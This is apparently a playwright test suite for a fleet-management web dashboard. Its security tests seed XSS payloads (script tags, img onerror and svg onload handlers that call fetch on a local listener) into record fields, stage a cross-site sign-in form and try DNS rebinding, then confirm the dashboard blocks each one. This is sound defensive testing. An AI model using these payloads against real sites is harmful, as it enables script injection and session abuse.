// The dashboard in a real browser: Debian's chromium driven by
// playwright-core against `fleet ui` (its own process) after a real embedded
// apply. What the pages say is checked against the record itself; the record
// also gets what an apply cannot make: a lock left by a holder on another
// machine, a drift row, and a fleet whose name is markup. Screenshots go to
// test-artifacts/dashboard/ (gitignored; CI keeps them as artifacts).
//
// chromium comes from apt (`.ci/run` installs it when /usr/bin/chromium is
// missing). Without it the suite fails when CI or FLEET_REQUIRE_BROWSER is
// set, and is skipped with a printed reason otherwise.
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { diskKey, randomToken } from '../engine/authority/index.ts';
import { openRecord, type AppliedPlan, type BootAttemptRow, type HistoryRow, type JournalRow, type LockRow, type VmRow } from '../engine/record/index.ts';
import { bootToken } from '../engine/record/testing.ts';
import { runCli } from './helpers/cli.ts';
import { REPO, fleetYaml, tempStack, type TempStack } from './helpers/stack.ts';
import { startFleetUi, type FleetUi } from './helpers/ui.ts';

const CHROMIUM = process.env.FLEET_CHROMIUM || '/usr/bin/chromium';
const HAVE_CHROMIUM = existsSync(CHROMIUM);
const REQUIRED = Boolean(process.env.CI || process.env.FLEET_REQUIRE_BROWSER);
if (!HAVE_CHROMIUM && !REQUIRED) {
  console.warn(`Skipping the dashboard's browser tests: no chromium at ${CHROMIUM} (apt-get install chromium; with CI or FLEET_REQUIRE_BROWSER set this is a failure).`);
}

const ARTIFACTS = join(REPO, 'test-artifacts', 'dashboard');
const STACK = 'browser';
const EVIL_FLEET = '<script>alert("fleet")</script>';
const EVIL_DETAIL = '<img src=x onerror=alert("detail")>';
const LOCK_HOLDER = { who: 'ci@runner-7', host: 'runner-7', pid: 4242, planId: null };
/** A name chromium resolves to 127.0.0.1 (--host-resolver-rules), as a rebinding site's would be. */
const REBIND_HOST = 'rebind.fleet.test';
/**
 * Text that runs script wherever it is taken for markup: in an element, in a quoted attribute (either quote), inside a
 * <title>, <style> or <textarea>, in the SVG; it would set window.__pwned and ask `listener` for /<tag>.
 */
const hostile = (listener: string, tag: string) =>
  `"'><img src=x onerror="window.__pwned='${tag}';fetch('${listener}/${tag}')"><script>window.__pwned='${tag}'</script></textarea></title></style><svg onload="window.__pwned='${tag}'"></svg>${tag}`;

/** What the record says, read before the dashboard starts (the pages must say the same). */
interface Seen {
  vms: VmRow[];
  lock: LockRow;
  web0: VmRow;
  history: HistoryRow[];
  boots: BootAttemptRow[];
  plans: AppliedPlan[];
  journal: JournalRow[];
  /** Every secret the stack has: none may appear on a page. */
  secrets: string[];
}

describe.skipIf(!HAVE_CHROMIUM && !REQUIRED)('the dashboard in chromium', () => {
  const adminToken = randomToken();
  const readToken = randomToken();
  let stack: TempStack;
  let ui: FleetUi;
  let userData: string;
  let context: BrowserContext;
  let page: Page;
  let seen: Seen;
  /** Listens for what a hostile text would fetch if it ran: nothing may reach it. */
  let listener: Server;
  let listenerUrl: string;
  const fetchedByMarkup: string[] = [];
  /** The hostile text seeded into the record, by field. */
  const said: Record<string, string> = {};
  const dialogs: string[] = [];
  const offOrigin: string[] = [];
  const consoleErrors: string[] = [];
  const visited = new Map<string, string>();
  let shot = 0;

  /** Goes to or waits for a page, keeps its HTML for the secret check, and screenshots it. */
  async function look(name: string): Promise<void> {
    await page.waitForLoadState('load');
    visited.set(page.url(), await page.content());
    // No page carries a script: nothing record text could turn into one either.
    expect(await page.evaluate(() => document.scripts.length)).toBe(0);
    await page.screenshot({ path: join(ARTIFACTS, `${String(++shot).padStart(2, '0')}-${name}.png`), fullPage: true });
  }

  beforeAll(async () => {
    if (!HAVE_CHROMIUM) {
      throw new Error(`chromium is missing at ${CHROMIUM}: install it with \`DEBIAN_FRONTEND=noninteractive apt-get install -y chromium\` (.ci/run does when it is absent), or point FLEET_CHROMIUM at one.`);
    }
    await mkdir(ARTIFACTS, { recursive: true });
    listener = createServer((req, res) => {
      fetchedByMarkup.push(req.url ?? '');
      res.end();
    });
    await new Promise<void>((ok) => listener.listen(0, '127.0.0.1', ok));
    listenerUrl = `http://127.0.0.1:${(listener.address() as { port: number }).port}`;
    for (const field of ['lockWho', 'lockHost', 'planWho', 'planDigest', 'journalDetail', 'bootReason', 'image', 'realImage', 'cloudId', 'dataCenter', 'actor', 'detail', 'code', 'driftDetail']) said[field] = hostile(listenerUrl, field);
    stack = await tempStack({ name: STACK });
    await stack.spec('web', fleetYaml('web', { count: 3 }));
    await stack.spec('batch', fleetYaml('batch', { count: 2, state: 'PoweredOff' }));
    const applied = await runCli(['apply', '--stack', stack.dir, '--yes']);
    expect(applied.code, applied.stderr).toBe(0);

    const record = await openRecord(`pglite://${join(stack.dir, '.fleet', 'record')}`);
    try {
      // A holder on another machine that is gone: its lease runs for an hour.
      await record.acquireLocks(STACK, ['batch'], LOCK_HOLDER, { leaseMs: 3_600_000 });
      const evil = await record.insertVm(
        { stack: STACK, fleet: EVIL_FLEET, owner: 'x', index: 0, dataCenter: 'miami', state: 'Requested', desiredState: 'Running', specHash: 'h', image: 'ubuntu-22.04', size: { cpu: 1, memoryGiB: 1, diskGiB: 10 }, encryptedDisk: false },
        { actor: 'import', detail: EVIL_DETAIL },
      );
      await record.addHistory(evil.id, { from: 'Requested', to: 'Requested', outcome: 'vetoed', actor: '<b>mallory</b>', detail: EVIL_DETAIL });
      const web0 = (await record.findVm(STACK, 'web/0'))!;
      await record.addHistory(web0.id, { from: 'Running', to: 'Running', outcome: 'drift', actor: 'refresh', detail: 'refresh: test drift on web/0' });
      // Every free text the pages show, hostile: what a holder's user and host name, a cloud's error, an operator's
      // reason, a catalog's image or a driver's cloud id could say. The record takes any text; the pages must show it as text.
      const h = await record.insertVm(
        { stack: STACK, fleet: 'hostile', owner: 'x', index: 0, dataCenter: said.dataCenter, state: 'Requested', desiredState: 'Running', specHash: 'h', image: said.image, size: { cpu: 1, memoryGiB: 1, diskGiB: 10 }, encryptedDisk: false },
        { actor: said.actor, detail: said.detail },
      );
      await record.addHistory(h.id, { from: 'Requested', to: 'Requested', outcome: 'failed', actor: said.actor, detail: said.detail, code: said.code });
      await record.addHistory(h.id, { from: 'Requested', to: 'Requested', outcome: 'drift', actor: said.actor, detail: said.driftDetail });
      await record.addBootAttempts([{ vmId: h.id, dataCenter: said.dataCenter, cloudId: said.cloudId, image: said.realImage, approved: false, reason: said.bootReason }]);
      const hostilePlan = 'p-hostile';
      await record.startPlan({ id: hostilePlan, stack: STACK, digest: said.planDigest, who: said.planWho, startedAt: new Date().toISOString() });
      await record.journal({ planId: hostilePlan, vmId: h.id, address: 'hostile/0', seq: 0, from: 'Requested', to: 'BeingCreated', idempotencyKey: 'k-hostile', status: 'failed', detail: said.journalDetail });
      await record.finishPlan(hostilePlan, 'failed');
      await record.acquireLocks(STACK, ['hostile'], { who: said.lockWho, host: said.lockHost, pid: 4343, planId: hostilePlan }, { leaseMs: 3_600_000 });
      const vms = await record.listVms(STACK);
      const history = await record.history(STACK, 'web/0');
      const plans = await record.listPlans(STACK);
      const secret = (await readFile(join(stack.dir, '.fleet', 'authority.secret'), 'utf8')).trim();
      const hashes = await Promise.all(vms.map((v) => bootToken(record, v.id)));
      seen = {
        vms,
        web0,
        lock: (await record.listLocks(STACK)).find((l) => l.fleet === 'batch')!,
        history,
        boots: await record.listBootAttempts(web0.id),
        plans,
        journal: await record.planJournal(plans[plans.length - 1].id),
        secrets: [adminToken, readToken, secret, ...vms.filter((v) => v.encryptedDisk).map((v) => diskKey(secret, v.id)), ...hashes.flatMap((h) => (h ? [h.hash] : []))],
      };
    } finally {
      await record.close();
    }
    expect(seen.secrets.length).toBeGreaterThan(3 + 3);

    ui = await startFleetUi(stack.dir, { FLEET_ADMIN_TOKEN: adminToken, FLEET_READ_TOKEN: readToken });
    userData = await mkdtemp(join(tmpdir(), 'fleet-chromium-'));
    context = await chromium.launchPersistentContext(userData, {
      executablePath: CHROMIUM,
      headless: true,
      viewport: { width: 1280, height: 900 },
      // Without the background-networking flags chromium reaches out at start and connections get refused in a sandbox.
      args: [`--host-resolver-rules=MAP ${REBIND_HOST} 127.0.0.1`, '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    });
    page = context.pages()[0] ?? (await context.newPage());
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    // A page the content security policy breaks (a blocked style or form) says so on the console.
    page.on('console', (m) => {
      if (m.type() === 'error') consoleErrors.push(`${page.url()}: ${m.text()}`);
    });
    const origin = new URL(ui.url).origin;
    page.on('request', (r) => {
      if (!r.url().startsWith(origin)) offOrigin.push(r.url());
    });
    // The whole setup is an apply, a chromium start and a server process on a shared two-core machine.
  }, 180_000);

  afterAll(async () => {
    listener?.closeAllConnections();
    await new Promise((ok) => (listener ? listener.close(ok) : ok(undefined)));
    await context?.close();
    await ui?.stop();
    if (userData) await rm(userData, { recursive: true, force: true });
    await stack?.remove();
  });

  it('sends a person to the sign-in form, refuses a wrong token and lets the read-only token in', async () => {
    await page.goto(ui.url);
    expect(new URL(page.url()).pathname).toBe('/ui/login');
    await look('sign-in');
    await page.fill('input[name=token]', 'not-a-token');
    await page.click('button[type=submit]');
    await expect.poll(() => page.locator('[data-testid=login-failed]').count(), { timeout: 10_000 }).toBe(1);
    await page.fill('input[name=token]', readToken);
    await page.click('button[type=submit]');
    await page.waitForURL(/\/ui$/);
    const [cookie] = await context.cookies();
    expect(cookie).toMatchObject({ name: `fleet_ui_${new URL(ui.url).port}`, httpOnly: true, sameSite: 'Strict', path: '/ui' });
    await look('overview');
  });

  it('shows fleets x data centers x states with the record\'s counts', async () => {
    const fleets = new Set(seen.vms.map((v) => v.fleet));
    const dcs = new Set(seen.vms.map((v) => v.dataCenter));
    expect(await page.textContent('[data-testid=summary]')).toContain(`${seen.vms.length} VMs in ${fleets.size} fleets over ${dcs.size} data centers`);
    const want: Record<string, Record<string, Record<string, number>>> = {};
    for (const v of seen.vms) {
      const cell = ((want[v.fleet] ??= {})[v.dataCenter] ??= {});
      cell[v.state] = (cell[v.state] ?? 0) + 1;
    }
    const got = await page.$$eval('#fleets tr[data-fleet]', (rows) => {
      const out: Record<string, Record<string, Record<string, number>>> = {};
      for (const row of rows) {
        const fleet = row.getAttribute('data-fleet')!;
        for (const td of row.querySelectorAll('td[data-dc]')) {
          for (const s of td.querySelectorAll('[data-state]')) {
            ((out[fleet] ??= {})[td.getAttribute('data-dc')!] ??= {})[s.getAttribute('data-state')!] = Number(s.getAttribute('data-count'));
          }
        }
      }
      return out;
    });
    expect(got).toEqual(want);
    // What the apply made: web Running, batch PoweredOff, spread over both data centers.
    expect(Object.values(want.web).flatMap((c) => Object.entries(c))).toEqual(expect.arrayContaining([['Running', expect.any(Number)]]));
    expect(seen.vms.filter((v) => v.fleet === 'web').every((v) => v.state === 'Running')).toBe(true);
    expect(seen.vms.filter((v) => v.fleet === 'batch').every((v) => v.state === 'PoweredOff')).toBe(true);
    expect(Object.keys(want.web).sort()).toEqual(['miami', 'richmond']);
  });

  it('shows a locked fleet with its holder and lease, on the overview, the locks page and the fleet', async () => {
    expect(await page.locator('#fleets tr[data-fleet="batch"] [data-testid=locked]').count()).toBe(1);
    expect(await page.locator('#fleets tr[data-fleet="web"] [data-testid=locked]').count()).toBe(0);
    await page.click('nav >> text=Locks');
    await page.waitForURL(/\/ui\/locks$/);
    const row = page.locator('#locks tr[data-fleet="batch"]');
    expect(await row.locator('[data-testid=holder]').textContent()).toBe('ci@runner-7 (pid 4242 on runner-7)');
    expect(await row.textContent()).toContain(seen.lock.expiresAt);
    expect(await row.textContent()).toContain(seen.lock.lockId);
    await look('locks');
    await page.goto(`${ui.url}/fleets/batch`);
    expect(await page.textContent('[data-testid=fleet-lock]')).toContain('Locked by ci@runner-7 (pid 4242 on runner-7)');
    await look('fleet-batch-locked');
  });

  it('navigates from a fleet to a VM to its history, boot attempts and the apply that made it', async () => {
    await page.goto(ui.url);
    await page.click('#fleets tr[data-fleet="web"] a');
    await page.waitForURL(/\/ui\/fleets\/web$/);
    const members = await page.$$eval('#members tr[data-address]', (rows) => rows.map((r) => r.getAttribute('data-address')));
    expect(members).toEqual(seen.vms.filter((v) => v.fleet === 'web').map((v) => v.address));
    await look('fleet-web');

    await page.click('#members a[href="/ui/vms/web/0"]');
    await page.waitForURL(/\/ui\/vms\/web\/0$/);
    expect(await page.textContent('[data-testid=state]')).toBe(seen.web0.state);
    expect(await page.locator('#history tbody tr').count()).toBe(seen.history.length);
    const changes = await page.$$eval('#history tbody tr td:nth-child(2)', (tds) => tds.map((td) => td.textContent));
    expect(changes).toEqual(seen.history.map((h) => `${h.from ?? '∅'} → ${h.to}`));
    expect(seen.boots.length).toBeGreaterThan(0);
    expect(await page.locator('#boots tbody tr').count()).toBe(seen.boots.length);
    expect(await page.textContent('#boots tbody tr:first-child')).toContain(seen.boots[0].approved ? 'approved' : 'denied');
    await look('vm-web-0');

    const planId = seen.plans[seen.plans.length - 1].id;
    await page.click(`#history a[href="/ui/plans/${planId}"] >> nth=0`);
    await page.waitForURL(new RegExp(`/ui/plans/${planId}$`));
    expect(await page.textContent('[data-testid=result]')).toBe('succeeded');
    expect(await page.locator('#journal tbody tr').count()).toBe(seen.journal.length);
    await look('apply');
    await page.click('#journal a[href="/ui/vms/web/1"] >> nth=0');
    await page.waitForURL(/\/ui\/vms\/web\/1$/);
  });

  it('shows the applies, the drift the record holds and the pack\'s lifecycle', async () => {
    await page.click('nav >> text=Applies');
    expect(await page.locator('#plans tr[data-plan]').count()).toBe(seen.plans.length);
    await look('applies');
    await page.click('nav >> text=Drift');
    expect(await page.textContent('#drift tr[data-address="web/0"]')).toContain('refresh: test drift on web/0');
    await look('drift');
    await page.click('nav >> text=Lifecycle');
    const states = await page.$$eval('svg [data-state]', (els) => els.map((e) => e.getAttribute('data-state')));
    expect(states).toEqual(expect.arrayContaining(['Requested', 'Running', 'PoweredOff', 'BootFailed', 'Deleted']));
    expect(await page.locator('svg').boundingBox()).not.toBeNull();
    await look('lifecycle');
  });

  it('shows record text as text: a fleet named with a script tag runs nothing', async () => {
    await page.goto(ui.url);
    const link = page.locator('#fleets tr a', { hasText: 'alert("fleet")' });
    expect(await link.textContent()).toBe(EVIL_FLEET);
    await link.click();
    await page.waitForURL(/\/ui\/fleets\/%3Cscript%3E/);
    await look('fleet-markup-name');
    await page.click('#members a');
    await page.waitForURL(/\/ui\/vms\//);
    expect(await page.locator('#history').textContent()).toContain(EVIL_DETAIL);
    expect(await page.locator('#history').textContent()).toContain('<b>mallory</b>');
    expect(await page.locator('#history b, #history img').count()).toBe(0);
    await look('vm-markup-detail');
    expect(dialogs).toEqual([]);
  });

  // Found sound by review: every value is escaped where it goes (element, attribute, SVG), and the policy allows no script.
  it('shows every hostile free text as text on every page it is on, and none of them runs or fetches anything', async () => {
    const noScriptRan = async () => {
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      expect(await page.locator('main img, main script, main svg[onload], main textarea').count()).toBe(0);
    };
    const shows = async (where: string, fields: string[]) => {
      const text = (await page.textContent(where)) ?? '';
      for (const f of fields) expect(text, `${page.url()} ${where}: ${f}`).toContain(said[f]);
    };
    await page.goto(ui.url);
    await shows('#fleets thead', ['dataCenter']);
    await shows('#locks', ['lockWho', 'lockHost']);
    await shows('#plans', ['planWho']);
    await shows('#drift', ['driftDetail', 'actor']);
    expect(await page.locator('#fleets tr[data-fleet="hostile"] td[data-dc]').evaluateAll((tds, dc) => tds.filter((td) => td.getAttribute('data-dc') === dc).length, said.dataCenter)).toBe(1);
    await noScriptRan();
    await look('hostile-overview');
    await page.goto(`${ui.url}/fleets/hostile`);
    await shows('#members', ['dataCenter', 'image']);
    await shows('[data-testid=fleet-lock]', ['lockWho', 'lockHost']);
    await noScriptRan();
    await look('hostile-fleet');
    await page.goto(`${ui.url}/vms/hostile/0`);
    await shows('#vm', ['dataCenter', 'image']);
    await shows('#history', ['actor', 'detail', 'code']);
    await shows('#boots', ['bootReason', 'cloudId']);
    await noScriptRan();
    await look('hostile-vm');
    await page.goto(`${ui.url}/plans/p-hostile`);
    await shows('main', ['planWho', 'planDigest', 'journalDetail']);
    await noScriptRan();
    await look('hostile-apply');
    for (const path of ['/locks', '/plans', '/drift']) {
      await page.goto(`${ui.url}${path}`);
      await noScriptRan();
    }
    expect(fetchedByMarkup).toEqual([]);
    expect(dialogs).toEqual([]);
  });

  it('shows no secret on any page, and loads nothing from elsewhere', () => {
    expect(visited.size).toBeGreaterThanOrEqual(10);
    for (const [url, html] of visited) {
      for (const s of seen.secrets) expect(html.includes(s), `${url} shows a secret`).toBe(false);
    }
    expect(offOrigin).toEqual([]);
    // The wrong-token sign-in answers 401, which chromium logs; nothing else may be an error.
    expect(consoleErrors.filter((e) => !/\/ui\/login: Failed to load resource: .* 401/.test(e))).toEqual([]);
  });

  // Found by QA: there was no way to sign out, and a form on any other site signed the browser in with its poster's token.
  it('signs out with the button, and refuses a sign-in form posted from another site\'s page', async () => {
    await page.goto(ui.url);
    if (new URL(page.url()).pathname === '/ui/login') {
      await page.fill('input[name=token]', readToken);
      await page.click('button[type=submit]');
      await page.waitForURL(/\/ui$/);
    }
    await page.click('form.signout button');
    await page.waitForURL(/\/ui\/login$/);
    expect(await context.cookies()).toEqual([]);
    await page.goto(ui.url);
    expect(new URL(page.url()).pathname).toBe('/ui/login');

    // Another origin (localhost, not 127.0.0.1) serving a form that posts a valid token to the dashboard.
    const { createServer } = await import('node:http');
    const evil = createServer((_req, res) => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<form method="post" action="${ui.url}/login"><input name="token" value="${readToken}"><button id="go">go</button></form>`);
    });
    await new Promise<void>((ok) => evil.listen(0, '127.0.0.1', ok));
    try {
      await page.goto(`http://localhost:${(evil.address() as { port: number }).port}/`);
      const [answer] = await Promise.all([page.waitForResponse((r) => r.url() === `${ui.url}/login`), page.click('#go')]);
      expect(answer.status()).toBe(403);
      expect(await answer.text()).toContain('from a page of another site');
      expect(await context.cookies()).toEqual([]);
      await look('sign-in-from-another-site');
    } finally {
      evil.closeAllConnections();
      await new Promise((ok) => evil.close(ok));
    }
  });

  // Found by review: a page of another site whose name resolves to 127.0.0.1 (DNS rebinding) was answered as the
  // dashboard's own: it could read the sign-in form and post wrong tokens, counted against the person's own address.
  it('refuses a page reached through another host name that resolves to 127.0.0.1 (DNS rebinding)', async () => {
    const port = new URL(ui.url).port;
    const answer = await page.goto(`http://${REBIND_HOST}:${port}/ui/login`);
    expect(answer?.status()).toBe(421);
    expect(await page.textContent('body')).toContain('DNS rebinding');
    // The rebinding page's own script, same-origin with it, gets nothing either: a sign-in is refused before it is counted.
    const tried = await page.evaluate(async () => {
      const res = await fetch('/ui/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'token=guess' });
      return { status: res.status, text: await res.text() };
    });
    expect(tried.status).toBe(421);
    expect(tried.text).not.toContain(STACK);
    // The same dashboard through 127.0.0.1 and localhost is answered.
    expect((await page.goto(`http://127.0.0.1:${port}/ui/login`))?.status()).toBe(200);
    expect((await page.goto(`http://localhost:${port}/ui/login`))?.status()).toBe(200);
  });
});
